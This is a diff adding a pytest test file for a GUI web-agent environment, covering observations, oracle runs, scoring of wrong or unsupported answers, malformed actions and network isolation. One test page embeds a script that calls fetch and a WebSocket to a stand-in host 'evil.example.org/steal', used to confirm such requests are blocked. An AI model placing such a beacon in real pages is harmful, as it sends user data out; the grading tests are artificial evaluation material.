@@ -1,0 +1,146 @@
+"""GuiWebEnv: spaces, oracle success, judging, malformed actions, hermetic network."""
+
+from __future__ import annotations
+
+import json
+
+import gymnasium as gym
+import numpy as np
+import pytest
+from gymnasium.utils.env_checker import check_env
+
+import gui_envs  # noqa: F401
+from gui_envs.actions import Action
+from gui_envs.web.env import GuiWebEnv, UnknownTaskError
+from gui_envs.web.observation import parse_elements
+from gui_envs.web.sites.base import Request, Response
+from tests.gui_envs.web.conftest import run_oracle
+
+
+def test_check_env_guiweb() -> None:
+    env = gym.make("GuiWeb-v0")
+    try:
+        check_env(env.unwrapped, skip_render_check=True)
+    finally:
+        env.close()
+
+
+def test_observation_contents(web_env: GuiWebEnv) -> None:
+    obs, info = web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 3})
+    assert obs["screenshot"].shape == (720, 1280, 3) and obs["screenshot"].dtype == np.uint8
+    assert obs["screenshot"].std() > 5  # a rendered page, not a blank frame
+    elements = parse_elements(obs["elements"])
+    assert elements and {"id", "role", "text", "value", "bbox", "clickable"} <= set(elements[0])
+    assert obs["url"] == "http://shop.guigym.test/" and obs["step"] == 0
+    assert info["target_bbox"] is not None and info["task"] == "shop.add_to_wishlist"
+    assert web_env.observation_space.contains(obs)
+    ids = [e["id"] for e in elements]
+    obs2 = web_env.step(Action.scroll("down", 0))[0]  # same page: ids are stable
+    assert [e["id"] for e in parse_elements(obs2["elements"])] == ids
+
+
+@pytest.mark.parametrize(
+    "task", ["shop.add_to_wishlist", "shop.calories", "shop.add_with_options", "shop.infeasible_size"]
+)
+def test_oracle_solves(web_env: GuiWebEnv, task: str) -> None:
+    total, info = run_oracle(web_env, task, seed=5)
+    assert info["success"] and total == pytest.approx(1.0)
+
+
+def test_seeded_repeat(web_env: GuiWebEnv) -> None:
+    a, ia = web_env.reset(options={"task": "shop.price", "seed": 11})
+    b, ib = web_env.reset(options={"task": "shop.price", "seed": 11})
+    assert ia["instruction"] == ib["instruction"] and a["elements"] == b["elements"]
+    assert ia["reference_answer"] == ib["reference_answer"]
+    c, ic = web_env.reset(seed=4)
+    d, id_ = web_env.reset(seed=4)
+    assert ic["task"] == id_["task"] and ic["instruction"] == id_["instruction"]
+
+
+def test_reset_restores_state(web_env: GuiWebEnv) -> None:
+    run_oracle(web_env, "shop.add_to_wishlist", seed=2)
+    assert web_env.states["shop"].query("SELECT * FROM wishlist")
+    web_env.reset(options={"task": "shop.open_wishlist", "seed": 2})
+    assert not web_env.states["shop"].query("SELECT * FROM wishlist")
+
+
+def test_wrong_answers_and_early_stop_score_zero(web_env: GuiWebEnv) -> None:
+    _, info = web_env.reset(options={"task": "shop.calories", "seed": 1})
+    *_, reward, terminated, _, info = web_env.step(Action.stop(answer="1"))
+    assert terminated and reward == 0.0 and not info["success"]
+    web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 1})
+    *_, reward, terminated, _, info = web_env.step(Action.stop(answer="done, it is in the wishlist"))
+    assert terminated and reward == 0.0 and not info["success"]  # words alone never count
+    web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 1})
+    *_, reward, _, _, info = web_env.step(Action.stop(status="infeasible"))
+    assert reward == 0.0
+
+
+def test_random_agent_judged_zero(web_env: GuiWebEnv) -> None:
+    rng = np.random.default_rng(0)
+    for seed, task in enumerate(["shop.add_to_cart_qty", "shop.buy", "shop.calories", "shop.cancel_order"]):
+        web_env.reset(options={"task": task, "seed": seed})
+        for _ in range(6):
+            action = Action.click(float(rng.uniform(0, 1280)), float(rng.uniform(0, 720)))
+            *_, terminated, truncated, info = web_env.step(action)
+            if terminated:
+                break
+        if not terminated:
+            *_, reward, _, _, info = web_env.step(Action.stop(answer=str(rng.integers(100))))
+        # A random clicker cannot place the exact order / find the answer; if it ever did, the state says so.
+        assert info["success"] == (
+            web_env.task.evaluate(info["url"], None) == 1.0 and not web_env.task.requires_stop
+        )
+
+
+def test_malformed_and_invalid_actions_are_noops(web_env: GuiWebEnv) -> None:
+    web_env.reset(options={"task": "shop.open_wishlist", "seed": 0})
+    for bad in ["not an action", '{"type": "click"}', json.dumps({"type": "fly"}), "<answer>[{]</answer>"]:
+        obs, reward, terminated, truncated, info = web_env.step(bad)
+        assert info["action_error"] and reward == pytest.approx(-0.01) and not terminated
+    _, reward, _, _, info = web_env.step(Action.click(5000, 10))
+    assert "outside" in info["action_error"] and reward < 0
+    _, _, _, _, info = web_env.step(Action.click_element("no-such-id"))
+    assert "no element" in info["action_error"]
+    _, _, _, _, info = web_env.step(Action.navigate("url", url="https://example.com/"))
+    assert "blocked" in info["action_error"] and info["url"].startswith("http://shop.guigym.test")
+    _, _, _, _, info = web_env.step(Action.press("nosuchkey"))
+    assert "unknown key" in info["action_error"]
+    # GUI-R1 text works too, and reaches the wishlist
+    target = info["target_bbox"]
+    text = f'<answer>[{{"action": "click", "point": [{(target[0] + target[2]) // 2}, {(target[1] + target[3]) // 2}], "input_text": ""}}]</answer>'
+    _, reward, terminated, _, info = web_env.step(text)
+    assert info["action_error"] is None and terminated and reward == 1.0
+
+
+def test_unknown_task_suggests(web_env: GuiWebEnv) -> None:
+    with pytest.raises(UnknownTaskError, match="shop.add_to_wishlist"):
+        web_env.reset(options={"task": "shop.add_to_wishlst"})
+
+
+class _LeakyEnv(GuiWebEnv):
+    """A GuiWebEnv with one extra origin serving a page that tries to reach the internet."""
+
+    def _route_table(self):  # type: ignore[no-untyped-def]
+        table = super()._route_table()
+        page = (
+            "<!doctype html><img src='https://example.com/pixel.png'>"
+            "<script>fetch('http://evil.example.org/steal').catch(() => {});"
+            "try { new WebSocket('ws://evil.example.org/ws'); } catch (e) {}</script><p>leaky</p>"
+        )
+        table["http://leaky.guigym.test"] = lambda request: Response(body=page)
+        return table
+
+
+def test_outside_requests_are_blocked() -> None:
+    with _LeakyEnv(sites=("shop",)) as env:
+        env.reset(options={"task": "shop.open_wishlist", "seed": 0})
+        _, _, _, _, info = env.step(Action.navigate("url", url="http://leaky.guigym.test/"))
+        _, _, _, _, info2 = env.step(
+            Action.wait(0.3) if hasattr(Action, "wait") else Action("wait", duration=0.3)
+        )
+        blocked = info["blocked_requests"] + info2["blocked_requests"]
+        assert any("example.com/pixel.png" in u for u in blocked)
+        assert any("evil.example.org/steal" in u for u in blocked)
+        assert info["action_error"] is None and "leaky" in info["url"]
+    assert isinstance(Request.from_url("GET", "http://x/a?b=1").query, dict)
